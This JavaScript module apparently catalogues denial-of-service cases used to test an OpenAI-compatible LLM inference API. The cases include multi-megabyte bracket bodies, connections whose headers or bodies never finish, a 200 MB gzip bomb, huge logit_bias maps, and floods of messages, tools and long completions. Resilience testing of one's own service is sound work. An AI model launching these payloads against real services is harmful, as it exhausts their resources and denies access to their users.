import { gzipSync } from 'node:zlib';
import { flood, hold } from './traffic.mjs';
import { UPLOAD_ABUSES } from './upload-abuses.mjs';

/** @typedef {{ url: string, engineUrl: string, attackerKey: string, model: string }} Target */
/** @typedef {Target & { signal: AbortSignal, answers: import('./answers.mjs').Answers }} Context */
/** @typedef {(context: Context) => Promise<unknown>} Abuse */
/** `prepare` and `tidy` come before and after the time that the abuse has. @typedef {{ prepare?: (target: Target) => Promise<void>, run: Abuse, tidy?: (target: Target) => Promise<void> }} PreparedAbuse */

const MIB = 2 ** 20;
const BRACKETS = Buffer.alloc(15 * MIB, '[');
const JSON_TYPE = { 'content-type': 'application/json' };
const COMPLETIONS = '/v1/completions';
const CHAT = '/v1/chat/completions';

/** @param {Context} context */
const withKey = ({ attackerKey }) => ({ ...JSON_TYPE, authorization: `Bearer ${attackerKey}` });
/** @param {number} count @param {(index: number) => unknown} item */
const list = (count, item) => Array.from({ length: count }, (_, index) => item(index));

/** @param {string} path @param {(context: Context) => object} fields @param {number} [clients] @returns {Abuse} */
const posts =
  (path, fields, clients = 8) =>
  (context) =>
    flood(context, clients, {
      url: context.url + path,
      headers: withKey(context),
      body: Buffer.from(JSON.stringify({ model: context.model, ...fields(context) })),
    });

/** @param {string} path @param {string | Buffer} body @param {Record<string, string>} [headers] @returns {Abuse} */
const raw =
  (path, body, headers = {}) =>
  (context) =>
    flood(context, 8, { url: context.url + path, headers: { ...withKey(context), ...headers }, body });

/** Everything that was tried on the product, by name. @type {Record<string, Abuse | PreparedAbuse>} */
export const ABUSES = {
  'no key: 15 MB of brackets': (context) =>
    flood(context, 8, { url: context.url + CHAT, headers: JSON_TYPE, body: BRACKETS }),
  'no key: 15 MB of brackets to no route': (context) =>
    flood(context, 8, { url: `${context.url}/nowhere`, headers: JSON_TYPE, body: BRACKETS }),
  "no key: 15 MB of brackets to the engine's port": (context) =>
    flood(context, 8, { url: `${context.engineUrl}/generate`, headers: JSON_TYPE, body: BRACKETS }),
  'no key: 330 bodies that do not end': (context) =>
    hold(context, 330, { url: context.url + CHAT, headers: JSON_TYPE, bytes: MIB }),
  'no key: 500 requests whose headers do not end': (context) =>
    hold(context, 500, { url: context.url + CHAT, headers: undefined, bytes: 0 }),
  'a key: 330 bodies that do not end': (context) =>
    hold(context, 330, { url: context.url + CHAT, headers: withKey(context), bytes: 3 * MIB }),
  'a key: 15 MB of brackets': raw(CHAT, BRACKETS),
  'a key: 4 MB of brackets': raw(CHAT, BRACKETS.subarray(0, 4 * MIB)),
  'a key: 4 MB of names': raw(
    CHAT,
    JSON.stringify(
      list(120, () =>
        Object.fromEntries(
          list(3_500, (i) => [`m${i}`, 0]).map((pair) => /** @type {[string, number]} */ (pair)),
        ),
      ),
    ),
  ),
  'a key: 4 MB of numbers': posts(COMPLETIONS, () => ({
    prompt: list(690_000, (i) => 10_000 + /** @type {number} */ (i % 80_000)),
  })),
  'a key: 4 MB of text': posts(COMPLETIONS, () => ({ prompt: 'all work and no play '.repeat(190_000) })),
  'a key: packed bodies of 200 MB': raw(CHAT, gzipSync(Buffer.alloc(200 * MIB, ' ')), {
    'content-encoding': 'gzip',
  }),
  'a key: bodies in pieces of one byte': (context) =>
    hold(context, 50, { url: context.url + CHAT, headers: withKey(context), bytes: 100_000, pieceBytes: 1 }),
  'a key: chats of 20,000 messages': posts(CHAT, () => ({
    messages: list(20_000, (i) => ({ role: 'user', content: `message ${i}` })),
  })),
  'a key: chats of 2,000 messages': posts(CHAT, () => ({
    messages: list(2_000, (i) => ({ role: 'user', content: `message ${i}` })),
    max_tokens: 1,
  })),
  'a key: 128 choices of a long prompt': posts(COMPLETIONS, () => ({
    prompt: list(100_000, () => 5),
    n: 128,
    max_tokens: 1,
  })),
  'a key: 300,000 biases': raw(
    COMPLETIONS,
    JSON.stringify({
      model: 'x',
      prompt: 'x',
      logit_bias: Object.fromEntries(
        list(300_000, (i) => [String(i), 1]).map((pair) => /** @type {[string, number]} */ (pair)),
      ),
    }),
  ),
  'a key: 64 long answers': posts(
    COMPLETIONS,
    () => ({ prompt: 'Once', max_tokens: 200, ignore_eos: true }),
    64,
  ),
  'a key: four long prompts all the time': posts(
    COMPLETIONS,
    () => ({ prompt: 'word '.repeat(100), max_tokens: 1, logit_bias: { 5: 1 } }),
    4,
  ),
  'a key: chats with 1,000 tools': posts(CHAT, () => ({
    messages: [{ role: 'user', content: 'x' }],
    tools: list(1_000, (i) => ({
      type: 'function',
      function: { name: `f${i}`, description: 'x'.repeat(1_000) },
    })),
    max_tokens: 1,
  })),
  ...UPLOAD_ABUSES,
};
